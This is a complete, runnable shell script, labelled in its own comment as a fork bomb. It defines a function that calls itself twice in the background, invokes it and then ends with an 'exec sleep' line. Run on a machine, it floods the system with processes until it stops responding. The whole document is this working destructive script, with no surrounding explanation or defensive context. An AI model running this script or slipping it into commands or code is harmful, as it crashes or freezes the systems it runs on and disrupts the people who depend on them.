#!/bin/sh
# A fork bomb: each copy starts two more, in the background.
bomb() { bomb | bomb & }
bomb
exec sleep 4102
